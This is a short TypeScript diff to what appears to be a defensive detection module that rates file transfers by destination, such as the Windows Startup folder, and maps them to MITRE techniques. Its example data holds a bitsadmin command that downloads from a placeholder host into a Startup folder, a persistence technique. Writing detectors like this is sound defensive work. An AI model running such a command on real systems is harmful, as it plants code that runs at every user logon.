@@ -1,7 +1,7 @@
 /** Where the file lands, or from where it leaves. */
 import type { Place } from '../../windows/index.js';
 import { isAdminShare, isInstalled, isProgram, isScript, isStaging, isStartup, isSystemFolder, isUserWritable, isWebRoot, landings } from '../places.js';
-import type { Reason, Signal } from '../signal.js';
+import type { Example, Reason, Signal } from '../signal.js';
 import { placeText } from '../words.js';
 
 function landing(holds: (place: Place) => boolean, sentence: (name: string) => string): Reason {
@@ -11,7 +11,7 @@ function landing(holds: (place: Place) => boolean, sentence: (name: string) => s
   };
 }
 
-const to = (path: string): Signal['examples'] => [{ process_name: 'bitsadmin.exe', process: `bitsadmin /transfer job https://files.example.net/a ${path}` }];
+const to = (path: string): readonly Example[] => [{ process_name: 'bitsadmin.exe', process: `bitsadmin /transfer job https://files.example.net/a ${path}` }];
 
 export const destinationSignals: readonly Signal[] = [
   { id: 'destination-startup', family: 'destination', impact: 90, confidence: 80, techniques: ['T1197', 'T1547.001'], reason: landing(isStartup, (name) => `${name} is started whenever a user logs on`), examples: to('"C:\\Users\\pat\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\a.lnk"') },
